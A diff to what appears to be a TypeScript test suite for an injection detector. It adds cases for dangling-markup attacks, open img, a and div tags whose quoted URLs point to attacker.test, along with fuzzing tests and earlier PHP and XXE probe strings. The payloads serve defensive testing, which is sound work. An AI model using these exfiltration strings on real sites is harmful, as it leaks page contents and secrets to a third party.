@@ -99,6 +99,24 @@ const CASES: { name: string; benign: string[]; attacks: [string, number][] }[] =
       ["<?php file_get_contents (php://input); ?>", 9120],
     ],
   },
+  {
+    // 3021: a value cut short inside a quoted attribute value (a line of markup, a subject made of its first
+    // words) takes the page's markup as that value and gains no attribute; a URL to elsewhere carries the page away
+    name: "a tag left open inside a quoted value",
+    benign: [
+      '<span class="icon"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 448',
+      'const total = <span class="hljs-title',
+      'the interpreter <code class="file docutils',
+    ],
+    attacks: [
+      ["<img src='//attacker.test/?", 3021], // dangling markup: the page up to its next quote goes to the attacker
+      ['<img src="https://attacker.test/log?c=', 3021],
+      ['<a class="x" href="\\attacker.test\\', 3021],
+      ['<div class="note" style="background:url(//attacker.test/?', 3021], // a `name:` may open a URL
+      ['<a href="test"', 3021], // closed values, the tag left open: the page's markup may add attributes
+      ['<img src="x" class="y"', 3021],
+    ],
+  },
 ];
 
 describe.each(CASES)("$name", ({ benign, attacks }) => {
@@ -117,6 +135,15 @@ describe("what the exemptions leave open", () => {
     fc.assert(fc.property(prefix, fc.stringMatching(/^[a-z0-9._\/-]{0,30}$/), (pre, tail) => {
       fc.pre(!tail.startsWith("www.w3.org/"));
       expect(ids(`<!DOCTYPE r SYSTEM "${pre}${tail}.dtd">`)).toContain(14002);
+    }), { numRuns: 200 });
+  });
+
+  it("a tag left open in a quoted URL that may leave the page's origin still scores, whatever the attribute", () => {
+    const tag = fc.constantFrom("img", "a", "video", "input", "div", "table");
+    const scheme = fc.constantFrom("//", "https://", "HTTP:", "ftp:", "\\\\", " //");
+    fc.assert(fc.property(tag, fc.stringMatching(/^[a-z][a-z-]{0,10}$/), scheme, fc.stringMatching(/^[a-z0-9.\/?=&-]{0,20}$/), fc.constantFrom('"', "'"), (name, attr, pre, tail, q) => {
+      fc.pre(!attr.startsWith("on"));
+      expect(ids(`<${name} ${attr}=${q}${pre}${tail}`)).toContain(3021);
     }), { numRuns: 200 });
   });
 
